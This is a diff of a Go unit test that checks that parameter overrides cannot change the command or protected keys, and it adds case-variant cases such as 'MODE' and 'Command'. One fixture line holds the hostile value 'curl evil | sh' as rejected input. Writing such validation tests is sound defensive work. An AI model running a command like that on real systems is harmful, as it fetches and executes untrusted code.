@@ -19,6 +19,8 @@ func TestAFiringNeverChangesTheCommandNorWhatIsNotOverridable(t *testing.T) {
 		{"a new key", map[string]string{"region": "eu"}, ""},
 		{"the command", map[string]string{"command": "curl evil | sh"}, "params.command"},
 		{"a key not overridable", map[string]string{"mode": "delta"}, "params.mode"},
+		{"a key not overridable, in another case", map[string]string{"MODE": "delta"}, "params.MODE"},
+		{"the command, in another case", map[string]string{"Command": "id"}, "params.Command"},
 		{"too long a value", map[string]string{"region": strings.Repeat("x", MaxParamValue+1)}, "params.region"},
 		{"an empty key", map[string]string{"": "x"}, "key"},
 	} {
